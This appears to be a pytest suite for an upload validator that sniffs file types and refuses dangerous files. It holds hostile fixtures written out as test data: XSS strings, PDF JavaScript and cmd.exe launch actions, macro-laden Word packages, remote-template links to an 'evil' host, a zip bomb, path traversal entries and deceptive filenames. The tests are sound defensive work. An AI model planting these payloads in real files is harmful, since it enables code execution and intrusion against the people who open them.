"""What a file is, and what is refused, whatever it is called."""

import io
import zipfile

import pytest
from PIL import Image

from core.files.kinds import KINDS, PAPERS, Unacceptable
from core.files.names import plain_name
from core.files.pictures import LONGEST_SIDE, redrawn
from core.files.sniffing import identify
from tests.pace import within

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def docx(**parts: bytes) -> bytes:
    """A package that says it is a Word document."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", parts.pop("types", b"<Types/>"))
        package.writestr("word/document.xml", parts.pop("document", "<w:document>支部大会记录</w:document>".encode()))
        for name, content in parts.items():
            package.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def picture(size=(40, 30), form="JPEG", **more) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "red").save(made, form, **more)
    return made.getvalue()


def look(content: bytes, name: str = "材料.pdf", allowed=PAPERS):
    return identify(content, filename=name, allowed=allowed).code


@pytest.mark.parametrize(
    ("content", "kind"),
    [(PDF, "pdf"), (docx(), "docx"), (picture(), "jpg"), (picture(form="PNG"), "png"), (picture(form="WEBP"), "webp"),
     ("会议通知\r\n".encode("gb18030"), "txt"), ("会议通知".encode(), "txt")],
)  # fmt: skip
def test_the_content_says_what_a_file_is_and_the_name_does_not(content, kind):
    assert look(content, "随便.exe") == kind


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "空的"),
        (b"MZ\x90\x00" + b"\x00" * 200, "不能上传"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "SVG"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG"),
        ("正文\n<script>alert(1)</script>".encode(), "SVG"),
        (PDF.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"), "脚本"),
        (PDF.replace(b"<<>>", b"<</S/Java#53cript>>"), "脚本"),
        (PDF.replace(b"<<>>", b"<</S/Launch/F(cmd.exe)>>"), "脚本"),
        (PDF[:-7], "不完整"),
        (PDF + docx(), "另一种格式"),
        (docx()[:-30], "损坏"),
        (docx(word__vbaProject_dot_bin=b"x"), "宏"),
        (docx(types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "宏"),
        (docx(word__embeddings__oleObject1_dot_bin=b"x"), "嵌有"),
        (docx(word__embeddings__a_dot_exe=b"x"), "嵌有"),
        (docx(word___rels__settings_dot_xml_dot_rels=b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'), "外部"),
        (docx(word___rels__document_dot_xml_dot_rels=b"<Relationship TargetMode='External' Target='\\\\evil\\x' Type='http://x/oleObject'/>"), "外部"),
        (docx(document="<w:t>机密</w:t><w:t>★</w:t>".encode()), "密级"),
        ("绝密★ 传达提纲".encode(), "密级"),
    ],
)  # fmt: skip
def test_what_is_dangerous_to_open_is_refused_with_a_reason(content, said):
    with pytest.raises(Unacceptable, match=said):
        look(content)


def test_a_secrecy_grade_in_the_name_is_enough():
    with pytest.raises(Unacceptable, match="密级"):
        look(PDF, "秘密★会议纪要.pdf")


def test_a_zip_bomb_is_not_unpacked():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"\x00" * 60_000_000)
    assert len(made.getvalue()) < 100_000
    with pytest.raises(Unacceptable, match="超出"):
        look(made.getvalue())


def test_a_part_that_lies_about_its_size_is_found_out():
    whole = docx(document=b"<w:t>" + b"a" * 5_000_000 + b"</w:t>")
    lying = whole.replace((5_000_011).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != whole
    with pytest.raises(Unacceptable, match="损坏"):
        look(lying)


def test_a_part_that_climbs_out_of_its_package_is_refused():
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as package:
        package.writestr("../../etc/cron.d/x", b"x")
    with pytest.raises(Unacceptable, match="损坏"):
        look(made.getvalue())


def test_an_archive_is_taken_only_where_its_purpose_says_so():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as package:
        package.writestr("a.txt", b"a")
    with pytest.raises(Unacceptable, match="ZIP"):
        look(made.getvalue())
    assert look(made.getvalue(), allowed=("zip",)) == "zip"


def test_a_picture_keeps_its_pixels_and_nothing_else():
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (26.0, 0.0, 0.0)
    content = picture((60, 20), exif=exif, comment=b"hidden words") + b"PK\x03\x04 a zip behind the picture"
    made = redrawn(content, KINDS["jpg"], megapixels=25)
    assert b"SecretCamera" not in made
    assert b"hidden words" not in made
    assert b"PK\x03\x04" not in made
    with Image.open(io.BytesIO(made)) as kept:
        assert kept.size == (60, 20)
        assert not kept.getexif()


def test_a_picture_that_was_taken_sideways_is_stored_upright():
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(io.BytesIO(redrawn(picture((60, 20), exif=exif), KINDS["jpg"], megapixels=25))) as kept:
        assert kept.size == (20, 60)


def test_a_huge_photograph_is_made_smaller_and_a_huge_drawing_refused():
    made = redrawn(picture((6400, 5000)), KINDS["jpg"], megapixels=25)
    with Image.open(io.BytesIO(made)) as kept:
        assert max(kept.size) <= LONGEST_SIDE
    flat = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(flat, "PNG")
    with pytest.raises(Unacceptable, match="像素"):
        redrawn(flat.getvalue(), KINDS["png"], megapixels=25)


def test_a_moving_or_broken_picture_is_refused():
    moving = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(moving, "GIF", save_all=True, append_images=frames[1:])
    with pytest.raises(Unacceptable, match="动图"):
        redrawn(moving.getvalue(), KINDS["png"], megapixels=25)
    with pytest.raises(Unacceptable, match="损坏"):
        redrawn(picture()[:200], KINDS["jpg"], megapixels=25)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\王\\批复.doc", "批复.pdf"),
        ("批复\u202efdp.exe", "批复fdp.pdf"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("  .. ", "文件.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ('x<y>:"|?*.pdf', "x_y______.pdf"),
        ("关于2026.7工作.pdf", "关于2026.7工作.pdf"),
    ],
)
def test_names_become_harmless(given, kept):
    assert plain_name(given, "pdf") == kept


def test_an_endless_name_is_cut_between_characters():
    name = plain_name("党" * 500, "pdf")
    assert name.endswith("党.pdf")
    assert len(name.encode()) <= 200


def test_a_document_made_to_be_read_for_ever_is_read_in_one_pass():
    with within(3):
        assert look(docx(document=b"<" * 3_000_000), "材料.docx") == "docx"
